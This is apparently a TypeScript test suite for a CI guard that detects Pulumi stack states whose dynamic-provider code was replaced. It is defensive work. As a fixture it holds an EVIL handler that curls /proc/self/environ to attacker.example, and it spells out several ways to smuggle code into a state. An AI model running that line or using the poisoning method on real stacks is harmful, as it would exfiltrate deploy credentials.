/**
 * The state guard: a state whose dynamic provider code was replaced (the attack: export a stack,
 * change a health check's `__provider`, import it back, wait for the next deploy's refresh) stops
 * the credentialed job naming the resource; the state a deploy of this commit writes passes.
 */
import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import {
    DYNAMIC_RESOURCES,
    RECORD_FILE,
    SerializedProvider,
    acceptedCode,
    currentProviders,
    readRecord,
    readRecordFile,
    recordLine,
} from "../tools/ci/stateGuard/providers";
import { main } from "../tools/ci/stateGuard/cli";
import { AcceptedCode, sha256, stateProblems } from "../tools/ci/stateGuard/state";
import { runMain } from "./support/cli";
import { REPO } from "./support/repo";
import { RepositoryCopy, copyRepository, exampleStackConfig } from "./support/repository";

const HEALTH = "pulumi-nodejs:dynamic:Resource";
const PLUGIN = "pulumi-nodejs:dynamic/grafana-athena:AthenaPluginInstallation";
const STACK = "urn:pulumi:grafana::grafana-athena-workspace";
const NODEJS_PROVIDER = `${STACK}::pulumi:providers:pulumi-nodejs::default::0a1b2c`;
const EVIL =
    "exports.handler = () => { require('child_process').execSync('curl " +
    "https://attacker.example/ -d @/proc/self/environ'); };";

/** A resource as the dynamic provider host leaves it in the state: its outputs carry the code it ran with. */
function dynamicResource(type: string, name: string, code: string) {
    return {
        urn: `${STACK}::grafana-athena:index:AthenaWorkspace$${type}::${name}`,
        custom: true,
        id: `${name}-id`,
        type,
        inputs: {
            grafanaUrl: "https://g-0123456789.grafana-workspace.eu-west-1.amazonaws.com",
            __provider: code,
        },
        outputs: { message: "Data source is working", __provider: code },
        provider: NODEJS_PROVIDER,
    };
}

/**
 * A state export of a workspace stack after a deploy of this commit: the health check, the plugin, an AWS
 * role.
 */
function deployedState(current: readonly SerializedProvider[]) {
    const code = (type: string) => current.find((p) => p.type === type)!.code!;
    return {
        version: 3,
        deployment: {
            manifest: { time: "2026-12-07T00:00:00Z", version: "v3.248.0" },
            resources: [
                {
                    urn: `${STACK}::pulumi:pulumi:Stack::grafana-athena-workspace-grafana`,
                    custom: false,
                    type: "pulumi:pulumi:Stack",
                },
                {
                    urn: NODEJS_PROVIDER.slice(0, NODEJS_PROVIDER.lastIndexOf("::")),
                    custom: true,
                    id: "0a1b2c",
                    type: "pulumi:providers:pulumi-nodejs",
                    inputs: {},
                    outputs: {},
                },
                {
                    urn: `${STACK}::aws:iam/rolePolicy:RolePolicy::assume`,
                    custom: true,
                    id: "r",
                    type: "aws:iam/rolePolicy:RolePolicy",
                    inputs: { policy: "{}" },
                    outputs: { policy: "{}" },
                },
                dynamicResource(HEALTH, "health-sales", code(HEALTH)),
                dynamicResource(PLUGIN, "athena-plugin", code(PLUGIN)),
            ],
        },
    };
}

type State = ReturnType<typeof deployedState>;
const clone = (s: State): State => JSON.parse(JSON.stringify(s)) as State;
const healthCheck = (s: State) =>
    s.deployment.resources.find((r) => r.type === HEALTH) as ReturnType<typeof dynamicResource>;

describe("state guard", function () {
    // One child process serializes the providers as the Pulumi CLI would (TypeScript's own transpiler):
    // seconds on a busy machine.
    this.timeout(120_000);
    let current: SerializedProvider[];
    let accepted: AcceptedCode;
    let dir: string;
    before(async () => {
        current = await currentProviders(REPO);
        accepted = acceptedCode(current, readRecordFile(REPO));
        dir = fs.mkdtempSync(path.join(os.tmpdir(), "state-guard-"));
    });
    after(() => fs.rmSync(dir, { recursive: true, force: true }));

    const write = (name: string, state: unknown) => {
        const file = path.join(dir, name);
        fs.writeFileSync(file, JSON.stringify(state));
        return file;
    };

    it("serializes the code of every dynamic resource class as pulumi up would, and the record lists it (reviewed)", () => {
        assert.deepEqual(current.map((p) => p.type).sort(), [PLUGIN, HEALTH].sort());
        for (const p of current) {
            assert.ok(
                p.code!.includes("exports.handler"),
                `${p.type}: a module the dynamic provider host can load`,
            );
            const recorded = readRecordFile(REPO).some((r) => r.type === p.type && r.sha256 === p.sha256);
            assert.ok(
                recorded,
                `the provider code of ${p.type} changed: once reviewed, add this ` +
                    `line to ${RECORD_FILE}:\n${recordLine(p)}`,
            );
        }
    });

    it("DYNAMIC_RESOURCES names every class of the repository that extends pulumi.dynamic.Resource", () => {
        const found: string[] = [];
        const walk = (d: string) => {
            for (const e of fs.readdirSync(d, { withFileTypes: true })) {
                if (
                    e.name === "node_modules" ||
                    e.name.startsWith(".") ||
                    e.name === "tests" ||
                    e.name === "out"
                )
                    continue;
                const p = path.join(d, e.name);
                if (e.isDirectory()) walk(p);
                else if (e.name.endsWith(".ts")) {
                    for (const m of fs
                        .readFileSync(p, "utf8")
                        .matchAll(/class\s+(\w+)\s+extends\s+(?:pulumi\.)?dynamic\.Resource\b/g))
                        found.push(`${path.relative(REPO, p)}#${m[1]}`);
                }
            }
        };
        walk(REPO);
        assert.deepEqual(found.sort(), DYNAMIC_RESOURCES.map((d) => `${d.module}#${d.className}`).sort());
    });

    it("passes the state a deploy of this commit writes, and says so", async () => {
        const r = await runMain(main, ["--state", write("deployed.json", deployedState(current))]);
        assert.equal(r.code, 0, r.stderr);
        assert.match(
            r.stdout,
            /^state-guard: 1 stacks: every dynamic resource carries reviewed provider code\n$/,
        );
    });

    it("stops a state whose health check's provider code was replaced, in one line naming the resource", async () => {
        const state = clone(deployedState(current));
        healthCheck(state).outputs.__provider = EVIL;
        const file = write("poisoned.json", state);
        const r = await runMain(main, ["--state", file]);
        assert.equal(r.code, 1);
        const lines = r.stderr.trim().split("\n");
        assert.equal(lines.length, 2, r.stderr);
        assert.equal(
            lines[0],
            `state-guard: ${file}: "${healthCheck(state).urn}": its outputs.__provider ` +
                `(SHA-256 ${sha256(EVIL).slice(0, 16)}…) is not the provider code this commit ` +
                `serializes for ${HEALTH}, nor one reviewed before`,
        );
        assert.equal(r.stdout, "");
    });

    it("every way to put code before the host is caught: inputs, a new dynamic type, a provider reference, a secret, a pending operation", () => {
        const base = deployedState(current);
        const cases: [string, (s: State) => void, RegExp][] = [
            [
                "inputs",
                (s) => (healthCheck(s).inputs.__provider = EVIL),
                /its inputs\.__provider .* is not the provider code/,
            ],
            [
                "a type of the package this program does not make",
                (s) =>
                    s.deployment.resources.push(
                        dynamicResource("pulumi-nodejs:dynamic/x:Evil", "evil", EVIL),
                    ),
                /dynamic resource of type "pulumi-nodejs:dynamic\/x:Evil", which this program does not make/,
            ],
            [
                "another type pointed at the dynamic provider",
                (s) =>
                    s.deployment.resources.push({
                        ...dynamicResource("aws:s3/bucket:Bucket", "b", EVIL),
                        outputs: { message: "", __provider: EVIL },
                    }),
                /of type "aws:s3\/bucket:Bucket", which this program does not make/,
            ],
            [
                "a code property on any resource",
                (s) => ((s.deployment.resources[2].outputs as Record<string, unknown>).__provider = EVIL),
                /"aws:iam\/rolePolicy:RolePolicy", which this program does not make/,
            ],
            [
                "a secret",
                (s) =>
                    ((healthCheck(s).outputs as Record<string, unknown>).__provider = {
                        "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270",
                        ciphertext: "v1:abc",
                    }),
                /outputs\.__provider is not plain text/,
            ],
            [
                "a pending operation",
                (s) =>
                    ((s.deployment as Record<string, unknown>).pending_operations = [
                        { type: "deleting", resource: { ...healthCheck(s), outputs: { __provider: EVIL } } },
                    ]),
                /\(pending operation\): .*outputs\.__provider/,
            ],
            [
                "a resource pending deletion",
                (s) =>
                    s.deployment.resources.push({
                        ...dynamicResource(HEALTH, "old", EVIL),
                        delete: true,
                    } as never),
                /::old": its inputs\.__provider/,
            ],
        ];
        for (const [name, change, expected] of cases) {
            const s = clone(base);
            change(s);
            const problems = stateProblems(s, accepted, "grafana");
            assert.ok(
                problems.some((p) => expected.test(p)),
                `${name}: ${JSON.stringify(problems)}`,
            );
        }
        assert.deepEqual(stateProblems(base, accepted, "grafana"), []);
    });

    it("accepts code recorded as reviewed (an older version a stack still holds), nothing else; refuses what is not a state", () => {
        const old = "exports.handler = () => ({}); // reviewed earlier";
        const s = clone(deployedState(current));
        healthCheck(s).outputs.__provider = old;
        assert.equal(stateProblems(s, accepted, "grafana").length, 1);
        const withOld = acceptedCode(current, readRecord(`# reviewed\n${sha256(old)} ${HEALTH}\n`));
        assert.deepEqual(stateProblems(s, withOld, "grafana"), []);
        // Recorded for another type: not accepted for this one.
        assert.equal(
            stateProblems(s, acceptedCode(current, readRecord(`${sha256(old)} ${PLUGIN}\n`)), "grafana")
                .length,
            1,
        );
        for (const bad of [null, "x", [], { deployment: { resources: {} } }])
            assert.match(stateProblems(bad, accepted, "grafana")[0], /^grafana: not a Pulumi state export/);
        assert.throws(
            () => readRecord("deadbeef pulumi-nodejs:dynamic:Resource\n"),
            /reviewed\.txt:1: not "<sha256> <type>"/,
        );
    });

    it("bounds its output: a state made of thousands of bad resources prints 50 lines and a count", async () => {
        const s = clone(deployedState(current));
        for (let i = 0; i < 2000; i++)
            s.deployment.resources.push(dynamicResource(HEALTH, `h${i}`, `${EVIL}//${i}`));
        const r = await runMain(main, ["--state", write("many.json", s)]);
        assert.equal(r.code, 1);
        assert.match(r.stderr, /state-guard: and 3950 more\n/);
        assert.ok(r.stderr.split("\n").length < 60);
    });

    describe("reading the stacks' states from the backend (pulumi stack export), as the deploy jobs do", () => {
        let copy: RepositoryCopy;
        let bin: string;
        let saved: string | undefined;
        before(() => {
            copy = copyRepository({ whole: true });
            copy.writeStack("infra-account-b", "sales", exampleStackConfig("infra-account-b"));
            copy.writeStack("infra-account-a", "grafana", exampleStackConfig("infra-account-a"));
            // A stand-in CLI: `pulumi stack export --stack NAME` prints states/<stack>.json, records its
            // folder.
            bin = fs.mkdtempSync(path.join(os.tmpdir(), "state-guard-bin-"));
            fs.mkdirSync(path.join(bin, "states"));
            fs.writeFileSync(
                path.join(bin, "pulumi"),
                `#!/usr/bin/env bash\necho "$PWD $*" >> ` +
                    `"${bin}/calls"\nf="${bin}/states/\${4##*/}.json"\n[ -f ` +
                    `"$f" ] || { echo "error: no stack named '$4' found" >&2; exit 255; }\ncat "$f"\n`,
                { mode: 0o755 },
            );
            saved = process.env.PATH;
            process.env.PATH = `${bin}:${saved}`;
        });
        after(() => {
            process.env.PATH = saved;
            copy.remove();
            fs.rmSync(bin, { recursive: true, force: true });
        });
        const states = (sales: unknown, grafana: unknown) => {
            fs.writeFileSync(path.join(bin, "states", "sales.json"), JSON.stringify(sales));
            fs.writeFileSync(path.join(bin, "states", "grafana.json"), JSON.stringify(grafana));
            fs.rmSync(path.join(bin, "calls"), { force: true });
        };
        const empty = { version: 3, deployment: { resources: [] } };

        it("exports exactly the stacks the options select, each in its project folder, and passes reviewed code", async () => {
            states(empty, deployedState(current));
            const ws = await runMain(main, ["--root", copy.root, "--workspaces", "--org", "acme"]);
            assert.equal(ws.code, 0, ws.stderr);
            assert.deepEqual(fs.readFileSync(path.join(bin, "calls"), "utf8").trim().split("\n"), [
                `${fs.realpathSync(copy.workspaceDir)} stack export --stack ` +
                    `acme/grafana-athena-workspace/grafana --non-interactive`,
            ]);
            states(empty, deployedState(current));
            const shard = await runMain(main, ["--root", copy.root, "--shard", "1/1", "--org", "acme"]);
            assert.equal(shard.code, 0, shard.stderr);
            assert.match(
                fs.readFileSync(path.join(bin, "calls"), "utf8"),
                /infra-account-b stack export --stack acme\/grafana-athena-source\/sales /,
            );
        });

        it("stops on a poisoned stack and on a stack whose state cannot be read, naming each", async () => {
            const poisoned = clone(deployedState(current));
            healthCheck(poisoned).outputs.__provider = EVIL;
            states(empty, poisoned);
            const r = await runMain(main, ["--root", copy.root, "--workspaces", "--org", "acme"]);
            assert.equal(r.code, 1);
            assert.match(
                r.stderr,
                /^state-guard: acme\/grafana-athena-workspace\/grafana: ".*::health-sales": its outputs\.__provider/m,
            );
            fs.rmSync(path.join(bin, "states", "sales.json"));
            const missing = await runMain(main, ["--root", copy.root, "--shard", "1/1", "--org", "acme"]);
            assert.equal(missing.code, 1);
            assert.match(
                missing.stderr,
                /^state-guard: acme\/grafana-athena-source\/sales: cannot export its state: error: no stack named 'acme\/grafana-athena-source\/sales' found$/m,
            );
        });

        it("--removed-since REF: the stacks fleet destroy --base REF destroys, before it runs their code", async () => {
            const git = (...args: string[]) =>
                execFileSync("git", ["-c", "user.name=ci", "-c", "user.email=ci@example.com", ...args], {
                    cwd: copy.root,
                    encoding: "utf8",
                });
            const file = path.join(copy.sourceDir, "Pulumi.sales.yaml");
            const text = fs.readFileSync(file, "utf8");
            git("init", "-q", "-b", "main");
            git("add", "infra-account-a", "infra-account-b");
            git("commit", "-q", "-m", "stacks");
            fs.rmSync(file);
            try {
                // The removed source stack only (its file is gone, its project folder is there).
                const poisoned = clone(deployedState(current));
                healthCheck(poisoned).outputs.__provider = EVIL;
                states(poisoned, empty);
                const r = await runMain(main, [
                    "--root",
                    copy.root,
                    "--removed-since",
                    "main",
                    "--org",
                    "acme",
                ]);
                assert.equal(r.code, 1);
                assert.deepEqual(fs.readFileSync(path.join(bin, "calls"), "utf8").trim().split("\n"), [
                    `${fs.realpathSync(copy.sourceDir)} stack export --stack ` +
                        `acme/grafana-athena-source/sales --non-interactive`,
                ]);
                assert.match(
                    r.stderr,
                    /^state-guard: acme\/grafana-athena-source\/sales: ".*::health-sales": its outputs\.__provider/m,
                );
                states(deployedState(current), empty);
                const ok = await runMain(main, [
                    "--root",
                    copy.root,
                    "--removed-since",
                    "main",
                    "--org",
                    "acme",
                ]);
                assert.equal(ok.code, 0, ok.stderr);
                assert.match(
                    ok.stdout,
                    /^state-guard: 1 stacks: every dynamic resource carries reviewed provider code$/m,
                );
                for (const argv of [
                    ["--removed-since", "main", "--workspaces"],
                    ["--removed-since", "no-such-ref"],
                ]) {
                    const bad = await runMain(main, ["--root", copy.root, ...argv]);
                    assert.equal(bad.code, 2, bad.stderr);
                    assert.equal(bad.stderr.trim().split("\n").length, 1, bad.stderr);
                }
            } finally {
                fs.writeFileSync(file, text);
                fs.rmSync(path.join(copy.root, ".git"), { recursive: true, force: true });
            }
        });
    });
});
